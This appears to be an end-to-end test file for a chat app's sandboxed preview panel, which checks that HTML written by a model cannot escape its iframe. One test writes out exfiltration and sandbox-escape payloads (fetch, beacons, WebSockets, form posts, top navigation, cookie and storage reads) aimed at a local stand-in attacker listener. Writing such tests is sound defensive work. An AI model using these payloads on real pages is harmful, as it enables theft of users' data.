/** Documents that a model wrote, run beside the chat: nothing of them leaves, nothing of Parley is read (S3, S5). */
import { createSocket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { createServer, type Socket } from 'node:net';
import type { FrameLocator, Page } from '@playwright/test';
import { faults } from './harness/axe.ts';
import { ChatPage, expect, test } from './harness/story.ts';

const block = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``;
const html = (code: string) => block('html', code);
const script = (code: string) => html(`<p id="end">waiting</p><script>${code}</script>`);

async function say(chat: ChatPage, markdown: string): Promise<void> {
  await chat.send(`Show me\n/script rate=0 text=${JSON.stringify(markdown)}`);
  await chat.hasState('completed');
}

/** Somebody who waits for whatever gets out, by TCP or UDP. */
async function listen() {
  const heard: string[] = [];
  const open = new Set<Socket>();
  const tcp = createServer((socket) => {
    open.add(socket);
    heard.push('connection');
    socket.on('data', (data) => heard.push(String(data).split('\r\n')[0]!));
    socket.on('error', () => {});
  });
  const udp = createSocket('udp4', (message) => heard.push(`datagram of ${message.length}`));
  await new Promise<void>((ready) => tcp.listen(0, '127.0.0.1', ready));
  await new Promise<void>((ready) => udp.bind(0, '127.0.0.1', ready));
  return {
    heard,
    at: `127.0.0.1:${(tcp.address() as AddressInfo).port}`,
    udpAt: `127.0.0.1:${udp.address().port}`,
    close() {
      for (const socket of open) socket.destroy();
      tcp.close();
      udp.close();
    },
  };
}

const shown = (page: Page): FrameLocator => page.frameLocator('iframe[title="What the code looks like"]');
const openLast = (page: Page) => page.getByRole('button', { name: 'Preview', exact: true }).last().click();

test('a page and a drawing are shown in the panel, run, start again, and give way to their code', async ({
  page,
  chat,
}) => {
  await chat.open();
  await say(
    chat,
    `${html('<style>h1{color:teal}</style><h1>Hello</h1><button onclick="this.textContent=++n">0</button><script>let n=0</script>')}\n\n${block('svg', '<svg viewBox="0 0 9 9"><title>Dot</title><circle cx="4" cy="4" r="3"/></svg>')}\n\n${block('js', 'alert(1)')}`,
  );
  // Only what a browser can show has it.
  await expect(page.getByRole('button', { name: 'Preview', exact: true })).toHaveCount(2);
  const opener = page.getByRole('button', { name: 'Preview', exact: true }).first();
  await opener.click();
  const panel = page.getByRole('complementary', { name: 'Preview' });
  const button = shown(page).getByRole('button');
  await button.click();
  await expect(button).toHaveText('1');
  expect(
    await shown(page)
      .getByRole('heading')
      .evaluate((title) => getComputedStyle(title).color),
  ).toBe('rgb(0, 128, 128)');
  await panel.getByRole('button', { name: 'Start again' }).click();
  await expect(button).toHaveText('0');
  await panel.getByRole('radio', { name: 'Code' }).check({ force: true });
  await expect(panel.locator('.code-block')).toContainText('<h1>Hello</h1>');
  await expect(panel.locator('iframe')).toHaveCount(0);
  expect(await faults(page)).toEqual([]);
  await panel.getByRole('button', { name: 'Close' }).click();
  await expect(panel).toHaveCount(0);
  await expect(opener).toBeFocused();
  await openLast(page);
  await expect(shown(page).locator('circle')).toBeVisible();
});

test('on a narrow screen it is a sheet, in Russian', async ({ visit }) => {
  const page = await visit({ locale: 'ru-RU', viewport: { width: 390, height: 844 }, hasTouch: true });
  await page.goto('/');
  await page
    .getByRole('textbox', { name: 'Сообщение' })
    .fill(`Покажи\n/script rate=0 text=${JSON.stringify(html('<h1>Привет</h1>'))}`);
  await page.getByRole('button', { name: 'Отправить' }).click();
  await page.getByRole('button', { name: 'Просмотр', exact: true }).click();
  const sheet = page.getByRole('dialog', { name: 'Просмотр' });
  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Привет' })).toBeVisible();
  expect(await faults(page)).toEqual([]);
  await sheet.getByRole('button', { name: 'Закрыть' }).click();
  await expect(sheet).toHaveCount(0);
});

test('no request, form, window or navigation leaves it, and it reads nothing', async ({ page, chat }) => {
  test.setTimeout(120_000);
  const evil = await listen();
  const url = `http://${evil.at}`;
  const end = `document.getElementById('end').textContent = `;
  const attacks: [name: string, markdown: string, end: string | null][] = [
    [
      'requests',
      script(
        `const t=[()=>fetch('${url}/f'),()=>navigator.sendBeacon('${url}/b'),()=>{new Image().src='${url}/i'},()=>new WebSocket('ws://${evil.at}/w'),()=>new EventSource('${url}/e'),()=>import('${url}/m.js').catch(()=>{}),()=>new Worker(URL.createObjectURL(new Blob(["fetch('${url}/k')"]))),()=>{const x=new XMLHttpRequest();x.open('POST','${url}/x');x.send('s')},()=>document.fonts.add(new FontFace('a','url(${url}/a.woff2)')),()=>{for(const r of ['stylesheet','prefetch','preload','preconnect','dns-prefetch','modulepreload','icon']){const l=document.createElement('link');l.rel=r;l.as='image';l.href='${url}/l';document.head.append(l)}},()=>{document.body.style.background='url(${url}/c)'},()=>{const s=document.createElement('script');s.src='${url}/s.js';document.body.append(s)}];for(const a of t)try{a()?.catch?.(()=>{})}catch{}setTimeout(()=>${end}'tried',800)`,
      ),
      'tried',
    ],
    [
      'the page around it, cookies and storage',
      script(
        `const r=[];for(const a of [()=>parent.document.title,()=>top.document.cookie,()=>document.cookie,()=>localStorage.length,()=>sessionStorage.length,()=>indexedDB.open('a'),()=>caches,()=>parent.localStorage,()=>frameElement.ownerDocument])try{r.push(String(a()))}catch(e){r.push(e.name)}${end}r.join()+' '+origin`,
      ),
      `${Array(8).fill('SecurityError').join()},TypeError null`,
    ],
    [
      'connections that no policy covers',
      script(
        `const r=[typeof RTCPeerConnection,typeof webkitRTCPeerConnection,typeof WebTransport];const f=document.createElement('iframe');f.srcdoc='<script>const c=new RTCPeerConnection({iceServers:[{urls:"stun:${evil.udpAt}"}]});c.createDataChannel("a");c.createOffer().then(o=>c.setLocalDescription(o))<\\/script>';document.body.append(f);setTimeout(()=>${end}r.join()+' '+document.querySelectorAll('iframe').length,800)`,
      ),
      'undefined,undefined,undefined 0',
    ],
    [
      'a form',
      html(
        `<form id=f method=post action="${url}/form"><input name=a value=b></form><script>f.submit()</script>`,
      ),
      null,
    ],
    [
      'a link that tells',
      html(`<a id=a ping="${url}/ping" href="${url}/a" target=_blank>x</a><script>a.click()</script>`),
      null,
    ],
    [
      'windows',
      script(`${end}String(window.open('${url}/w'));try{top.location='${url}/top'}catch{}`),
      'null',
    ],
    ['going elsewhere', script(`setTimeout(()=>{location='${url}/go'},100)`), null],
    ['being sent elsewhere', html(`<meta http-equiv=refresh content="0;url=${url}/meta"><p>x</p>`), null],
    [
      'a page within',
      html(`<iframe src="${url}/in"></iframe><object data="${url}/o"></object><embed src="${url}/em">`),
      null,
    ],
  ];
  await chat.open();
  await page.evaluate(() => {
    document.title = 'Secret';
    localStorage.setItem('secret', 'secret');
  });
  for (const [name, markdown, last] of attacks) {
    await say(chat, markdown);
    const address = page.url();
    await openLast(page);
    if (last === null) await page.waitForTimeout(800);
    else await expect(shown(page).locator('#end')).toHaveText(last);
    expect([name, evil.heard, page.url(), page.context().pages().length]).toEqual([name, [], address, 1]);
    await page.getByRole('complementary', { name: 'Preview' }).getByRole('button', { name: 'Close' }).click();
  }
  evil.close();
});

test('what it asked for in vain is said, and one that does not stop talking is stopped', async ({
  page,
  chat,
}) => {
  await chat.open();
  await say(chat, html('<p>Hello</p><img src="https://example.org/x.png">'));
  await openLast(page);
  await expect(page.getByText('It asked for something from elsewhere')).toBeVisible();
  await say(
    chat,
    script('setInterval(()=>{for(let i=0;i<500;i++)parent.postMessage("x".repeat(100),"*")},5)'),
  );
  await openLast(page);
  await expect(page.getByText('The preview was stopped')).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
  await chat.send('/script rate=0 text="Still here."');
  await expect(chat.reply).toContainText('Still here.');
});

test('a script without an end stops its own frame, not the page, where the browser gives it a process of its own', async ({
  browser,
  baseURL,
}) => {
  const launched = test.info().project.use.launchOptions!;
  // As browsers on desktops are by default; the one the tests use is not.
  const isolating = await browser.browserType().launch({ ...launched, args: ['--site-per-process'] });
  const page = await isolating.newPage({ baseURL: baseURL! });
  const chat = new ChatPage(page);
  await chat.open();
  await say(chat, script('setTimeout(()=>{for(;;);},50)'));
  await openLast(page);
  await page.waitForTimeout(1000);
  await chat.send('/script rate=0 text="Still here."');
  await expect(chat.reply).toContainText('Still here.');
  const panel = page.getByRole('complementary', { name: 'Preview' });
  await panel.getByRole('button', { name: 'Close' }).click();
  await expect(panel).toHaveCount(0);
  await isolating.close();
});

test('its document is without an origin wherever it is opened, and nobody else may frame it', async ({
  page,
  server,
}) => {
  for (const name of ['preview', 'diagram', 'picture']) {
    const answer = await page.request.get(`${server.url}/frames/${name}.html`);
    const policy = answer.headers()['content-security-policy']!;
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("form-action 'none'");
    expect(policy).toContain("frame-ancestors 'self'");
    expect(policy).toMatch(/sandbox allow-scripts$/);
    await page.goto(`${server.url}/frames/${name}.html`);
    expect(await page.evaluate(() => origin)).toBe('null');
  }
  const page404 = await page.request.get(`${server.url}/frames/other.html`, {
    headers: { accept: 'text/html' },
  });
  expect(page404.status()).toBe(404);
});
